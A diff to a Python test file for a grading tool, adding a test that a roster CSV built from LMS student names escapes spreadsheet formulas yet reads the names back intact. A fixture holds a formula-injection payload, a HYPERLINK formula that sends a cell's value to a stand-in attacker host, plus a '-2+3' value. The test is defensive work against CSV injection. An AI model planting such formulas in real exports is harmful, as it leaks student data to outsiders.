@@ -18,6 +18,8 @@ from mailkit import gmail, notebook, takeout_mbox
 from grader import cli
 from grader.csvfile import plain_cell, safe_cell
 from grader.gradebook.course_book import CourseBook
+from grader.lms.lti.members import write_roster
+from grader.roster import Person, load_roster
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?g="&D2,"open")'
 ROSTER = (
@@ -127,3 +129,15 @@ def test_the_writer_keeps_numbers_and_the_reader_gets_back_what_was_written() ->
         assert safe_cell(formula) == "'" + formula
         assert plain_cell(safe_cell(formula)) == formula
     assert plain_cell("'quoted by the student") == "'quoted by the student"
+
+
+def test_a_roster_written_from_the_lms_is_safe_and_reads_back_as_the_lms_gave_it(tmp_path):
+    # `grader roster --from-lti` writes roster.csv with the names students set in the LMS
+    people = [
+        Person("CS21B001", HYPERLINK, ("asha@example.edu",), "student"),
+        Person("EE21B002", "-2+3", ("rahul@example.edu",), "student"),
+    ]
+    path = tmp_path / "roster.csv"
+    write_roster(path, people)
+    assert runnable_cells(path) == []
+    assert [p.name for p in load_roster(path).students] == [HYPERLINK, "-2+3"]
